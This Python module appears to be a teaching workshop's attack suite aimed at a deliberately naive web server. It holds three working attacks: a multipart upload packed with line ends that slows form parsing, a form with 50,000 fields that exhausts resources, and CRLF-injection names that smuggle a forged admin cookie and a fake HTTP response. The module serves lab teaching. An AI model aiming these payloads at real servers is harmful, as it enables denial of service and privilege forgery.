"""Three attacks on what stands around a handler: two by forms, one by a cookie.

Run them with `python3 -m workshop attack 9`. Each is one request, and none is larger than a photo.
"""

import socket
import time
from contextlib import suppress
from urllib.parse import quote

from workshop.attacks import Attack, Outcome, Target

SIZE = 320_000  # bytes of a picture
FIELDS = 50_000
PATIENCE = 0.15  # seconds; a picture of this size takes some milliseconds
GUARD = 20.0  # seconds; only so that a broken server cannot hold the attack for ever


def line_ends(target: Target) -> Outcome:
    """Send a picture of line ends; the attack wins if it takes much longer than another one."""
    photo = timed(target, b"\x00\xff" * (SIZE // 2))
    ends = timed(target, b"\r\n" * (SIZE // 2))
    won = ends > PATIENCE and ends > 10 * photo
    said = f"{ends:.1f} s" if won else "no longer"
    saw = f"a picture of {SIZE:,} bytes takes its time\none of as many line ends takes {said}"
    return Outcome(won, saw)


def timed(target: Target, picture: bytes) -> float:
    """Sign the book with this picture, and return the seconds until the answer."""
    boundary = b"--cut\r\n"
    part = b'Content-Disposition: form-data; name="picture"; filename="me.png"\r\n\r\n'
    body = boundary + part + picture + b"\r\n--cut--\r\n"
    start = time.perf_counter()
    answer = sign(target, "multipart/form-data; boundary=cut", body)
    spent = time.perf_counter() - start
    assert answer.startswith(b"HTTP/1.1 200"), answer
    return spent


def many_fields(target: Target) -> Outcome:
    """Send a form of very many fields; the attack wins if they are taken in."""
    body = b"&".join(b"f%d=" % number for number in range(FIELDS))
    answer = sign(target, "application/x-www-form-urlencoded", body)
    status = answer[9:12].decode()
    saw = f"{FIELDS:,} fields, {len(body):,} bytes: {status}\n{last_line(answer)}"
    return Outcome(status == "200", saw)


NAMES = (
    "me; Domain=.example; Max-Age=99999999",
    "me\r\nSet-Cookie: admin=yes",
    "me\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nfake",
)


def forged_cookie(target: Target) -> Outcome:
    """Call yourself by a name that is more than a value; the attack wins if it becomes more."""
    lines, won = [], False
    for name in NAMES:
        answer = ask(target, f"GET /hello?name={quote(name)} HTTP/1.1\r\n")
        head = answer.partition(b"\r\n\r\n")[0]
        more = b"\r\nSet-Cookie: admin" in head or b"Domain=.example" in head or b"fake" in answer
        lines.append(f"{name[:18]!r:24} {answer[9:12].decode()}{'  taken' if more else ''}")
        won = won or more
    return Outcome(won, "\n".join(lines))


def sign(target: Target, kind: str, body: bytes) -> bytes:
    """Sign the book with a form."""
    head = f"POST /sign HTTP/1.1\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n"
    return ask(target, head, body)


def ask(target: Target, head: str, body: bytes = b"") -> bytes:
    """One request, and all that comes back."""
    answer = b""
    with socket.create_connection(target.address, GUARD) as client, suppress(ConnectionError):
        client.sendall(f"{head}Host: a\r\nConnection: close\r\n\r\n".encode() + body)
        while data := client.recv(65536):
            answer += data
    return answer


def last_line(answer: bytes) -> str:
    """The end of a body."""
    return answer.rstrip().rpartition(b"\n")[2].decode("latin-1").partition(": a form")[0]


ATTACKS = (
    Attack(
        "A picture of line ends",
        story="A form is taken apart at its lines. This one holds 160,000 of them, all empty.",
        victim="naive",
        run=line_ends,
    ),
    Attack(
        "A form of very many fields",
        story="Each of them is an object or three. Who counts them, and when?",
        victim="naive",
        run=many_fields,
    ),
    Attack(
        "A name that is more than a name",
        story="A visitor's name goes into a cookie. He may call himself what he likes.",
        victim="naive",
        run=forged_cookie,
    ),
)
